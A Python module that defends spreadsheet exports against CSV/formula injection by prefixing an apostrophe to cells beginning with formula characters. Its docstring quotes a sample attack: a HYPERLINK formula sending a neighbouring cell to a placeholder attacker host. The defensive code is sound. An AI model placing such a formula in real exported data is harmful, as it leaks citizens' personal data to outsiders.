"""Cells for files a person opens in a spreadsheet (CSV, XLSX): text a citizen typed stays text.

A spreadsheet reads a cell starting with `=`, `+`, `-` or `@` as a formula (a tab or carriage return
before one hides it from a quick look), so an applicant named `=HYPERLINK("http://evil.example/?"&D5)`
would send the next column to a stranger the moment an official opens the register. Every CSV and
XLSX writer passes its values through `safe_cell` (or `safe_row`): such text gets a leading
apostrophe, which the spreadsheet shows as text and never evaluates (OWASP "CSV Injection").
Numbers, dates and text that is itself a plain number ("-5", "+84977111222") are left as they are.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)*")


def safe_cell(value: Any) -> Any:
    """`value` unchanged unless it is text a spreadsheet would run as a formula: then `'` + text."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in values]
